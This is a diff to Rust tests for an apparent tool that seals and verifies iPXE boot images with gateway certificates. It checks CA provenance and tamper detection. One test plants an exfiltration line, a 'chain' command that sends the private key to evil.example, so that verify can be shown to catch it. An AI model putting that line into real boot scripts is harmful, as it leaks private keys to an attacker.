@@ -204,7 +204,7 @@ fn verify_sees_what_does_not_belong_together() {
     let fingerprint: farmgate::identity::Fingerprint = hex.parse().unwrap();
     let in_efi = memchr::memmem::find(&good, fingerprint.as_bytes()).unwrap();
     for (image, reason) in [
-        (change(root, &[b'0'; 64]), "does not trust the root that the image names"),
+        (change(root, &[b'0'; 64]), "is not the root that the image names"),
         (change(in_efi, &[7; 32]), "UEFI does not trust"),
         (change(in_efi, farmgate::ipxe::STOCK_ROOT.as_bytes()), "trusts iPXE's own root"),
         (change(446, &[0; 32]), "it starts only as bios-cd, uefi-cd"),
@@ -236,7 +236,7 @@ fn any_damage_is_survived() {
             image[at] = random(256) as u8;
         }
         image.truncate(image.len() - random(2) * random(image.len()));
-        let _ = farmgate::iso::verify(&image, None, now);
+        let _ = farmgate::iso::verify(&image, &farmgate::iso::AtHand::default(), now);
     }
 }
 
@@ -414,4 +414,150 @@ fn a_certificate_that_ipxe_cannot_use_is_not_sealed() {
     openssl(&format!("{signing} -in x.csr -out x.crt -sha512"));
     farm.ok(&seal);
     assert_eq!(farm.verified("x.iso")["identity"]["subject"], "CN=x");
+}
+
+/// The PEM files of a gateway in a farm's state.
+fn pem(farm: &Farm, gateway: &str, end: &str) -> String {
+    let mut files = std::fs::read_dir(farm.path(&format!("state/gateways/{gateway}"))).unwrap();
+    let file = files.find_map(|f| f.ok().filter(|f| f.path().to_string_lossy().ends_with(end)));
+    file.unwrap().path().to_str().unwrap().to_owned()
+}
+
+/// The same without a state: a machine that only seals.
+fn seal_elsewhere(farm: &Farm, args: &[&str]) -> (bool, String) {
+    let output = Command::new(env!("CARGO_BIN_EXE_farmgate"))
+        .current_dir(&farm.dir)
+        .args(["--state", "/nonexistent", "iso", "seal"])
+        .args(args)
+        .output()
+        .unwrap();
+    (output.status.success(), String::from_utf8(output.stderr).unwrap())
+}
+
+/// Such a stick used to be made without a word, and was then refused for ever.
+#[test]
+fn an_identity_of_another_fleet_is_not_sealed() {
+    let (farm, other) = (Farm::new(), Farm::new());
+    farm.ok(&["iso", "base", "-o", "base.iso"]);
+    let base = farm.path("base.iso");
+    let line = other.refused(&["iso", "seal", &base, "--gateway", "lab-1", "-o", "x.iso"]);
+    assert!(line.contains("did not issue the certificate"), "{line}");
+    assert!(!Path::new(&other.path("x.iso")).exists());
+    farm.ok(&["iso", "seal", &base, "--gateway", "lab-1", "-o", "x.iso"]);
+
+    // The image carries the CA's certificate, so no state is needed to tell.
+    let (cert, key) = (pem(&farm, "lab-1", ".crt"), pem(&farm, "lab-1", ".key"));
+    let own = [&base, "--cert", &cert, "--key", &key, "-o", "y.iso"];
+    assert_eq!(seal_elsewhere(&farm, &own), (true, String::new()));
+    assert_eq!(farm.bytes("x.iso"), farm.bytes("y.iso"));
+    let (their_cert, their_key) = (pem(&other, "lab-1", ".crt"), pem(&other, "lab-1", ".key"));
+    let theirs = [&base, "--cert", &their_cert, "--key", &their_key, "-o", "z.iso"];
+    let (sealed, said) = seal_elsewhere(&farm, &theirs);
+    assert!(!sealed && said.contains("did not issue the certificate"), "{said}");
+
+    // An image of an older farmgate does not: whoever knows the CA can tell.
+    let mut old = farm.bytes("base.iso");
+    let at = memchr::memmem::find(&old, b"\n# ca: ").unwrap();
+    old[at + 3..at + 5].copy_from_slice(b"??");
+    farm.write("old.iso", &old);
+    let args = ["old.iso", "--cert", &cert, "--key", &key, "-o", "z.iso"];
+    let (sealed, said) = seal_elsewhere(&farm, &args);
+    assert!(!sealed && said.contains("give --ca FILE"), "{said}");
+    let ca = farm.path("state/pki/ca.crt");
+    assert_eq!(seal_elsewhere(&farm, &[&args[..], &["--ca", &ca]].concat()), (true, String::new()));
+    farm.ok(&["iso", "seal", "old.iso", "--gateway", "lab-1", "-o", "z.iso"]);
+    let line =
+        other.refused(&["iso", "seal", &farm.path("old.iso"), "--gateway", "lab-1", "-o", "x"]);
+    assert!(line.contains("neither on it nor that of this state"), "{line}");
+}
+
+/// `verify` used to say of it that the private key fits, and nothing else.
+#[test]
+fn verify_says_that_an_identity_is_of_another_fleet() {
+    let (farm, other) = (Farm::new(), Farm::new());
+    farm.ok(&["iso", "make", "lab-1", "-o", "own.iso"]);
+    other.ok(&["iso", "make", "lab-1", "-o", "theirs.iso"]);
+    let (mut own, theirs) = (farm.bytes("own.iso"), other.bytes("theirs.iso"));
+    assert_eq!(farm.verified("own.iso")["identity"]["issued_by_root"], true);
+    let slot = |image: &[u8]| farmgate::ipxe::slot::find(image).unwrap();
+    let place = slot(&own);
+    own[place].copy_from_slice(&theirs[slot(&theirs)]);
+    farm.write("mixed.iso", &own);
+    let line = farm.refused(&["iso", "verify", "mixed.iso"]);
+    assert!(line.contains("did not issue its certificate"), "{line}");
+    assert!(!line.contains("does not belong"), "its key fits: {line}");
+}
+
+/// A line that sends the private key away, for instance, used to go unnoticed.
+#[test]
+fn verify_notices_every_change_outside_of_the_slot() {
+    let farm = Farm::new();
+    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
+    let good = farm.bytes("good.iso");
+    let report = farm.verified("good.iso");
+    assert_eq!(report["not_compared"], serde_json::json!([]), "{report}");
+
+    let mut spy = good.clone();
+    let at = memchr::memmem::find(&spy, b"\n# A missing intermediate").unwrap() + 1;
+    let line = b"chain http://evil.example/${privkey:uristring} ||\n";
+    spy[at..at + line.len()].copy_from_slice(line);
+    farm.write("spy.iso", &spy);
+    let line = farm.refused(&["iso", "verify", "spy.iso"]);
+    assert!(line.contains("its script is not the one that this farmgate writes"), "{line}");
+    // It is known by the image alone.
+    let now = time::OffsetDateTime::now_utc();
+    let nothing = farmgate::iso::AtHand::default();
+    let report = farmgate::iso::verify(&spy, &nothing, now).unwrap();
+    assert!(report.problems.iter().any(|problem| problem.contains("its script")), "{report}");
+    let report = farmgate::iso::verify(&good, &nothing, now).unwrap();
+    assert!(report.problems.is_empty() && report.not_compared.len() == 2, "{report}");
+
+    // A byte here and there, in what firmware reads and in what nobody does.
+    let dir = stock_dir();
+    let ipxe = farmgate::iso::sources::Ipxe::find(Some(&dir)).unwrap();
+    let own = std::env::var_os("FARMGATE_SYSLINUX").map(std::path::PathBuf::from);
+    let syslinux = farmgate::iso::sources::Syslinux::find(own.as_deref()).unwrap();
+    let at_hand = farmgate::iso::AtHand { ca: None, ipxe: Some(&ipxe), syslinux: Some(&syslinux) };
+    let report = farmgate::iso::verify(&good, &at_hand, now).unwrap();
+    assert!(report.problems.is_empty() && report.not_compared.is_empty(), "{report}");
+    let slot = farmgate::ipxe::slot::find(&good).unwrap();
+    let loader = memchr::memmem::find(&good, b"MZ").unwrap();
+    // What a part holds shows where that part is at hand; all else does by itself.
+    let places = [(3, true), (loader + 300_000, true), (good.len() / 3, true)];
+    let alone = [445, 446, 5000, 33_000, 40_000, 43_010, 45_000, good.len() - 1];
+    for (at, parts) in places.into_iter().chain(alone.map(|at| (at, false))) {
+        if slot.contains(&at) {
+            continue;
+        }
+        let mut image = good.clone();
+        image[at] ^= 0x10;
+        let noticed = farmgate::iso::verify(&image, if parts { &at_hand } else { &nothing }, now);
+        let noticed = noticed.map_or(true, |report| !report.problems.is_empty());
+        assert!(noticed, "byte {at} of {}", good.len());
+    }
+}
+
+/// What is not there to compare with is said, and is no fault of the image.
+#[test]
+fn verify_says_what_it_could_not_compare() {
+    let farm = Farm::new();
+    farm.ok(&["iso", "base", "-o", "base.iso", "--address", "192.0.2.9/24", "--debug"]);
+    let mut stock = farmgate::iso::sources::Ipxe::find(Some(&stock_dir())).unwrap();
+    let image = farm.bytes("base.iso");
+    let verify = |ipxe: &farmgate::iso::sources::Ipxe| {
+        let at_hand = farmgate::iso::AtHand { ipxe: Some(ipxe), ..Default::default() };
+        farmgate::iso::verify(&image, &at_hand, time::OffsetDateTime::now_utc()).unwrap()
+    };
+    let report = verify(&stock);
+    assert!(report.problems.is_empty(), "{report}");
+    assert!(!report.not_compared.iter().any(|what| what.contains("iPXE")), "{report}");
+    // Of the same version, and yet another one.
+    let at = stock.efi.bytes.len() / 2;
+    stock.efi.bytes[at] ^= 1;
+    let report = verify(&stock);
+    assert!(report.problems.iter().any(|p| p.contains("its iPXE for UEFI is not")), "{report}");
+    // What was named must be there.
+    std::fs::create_dir(farm.path("nothing")).unwrap();
+    let line = farm.refused(&["iso", "verify", "base.iso", "--ipxe", "nothing"]);
+    assert!(line.contains("no ipxe.lkrn"), "{line}");
 }
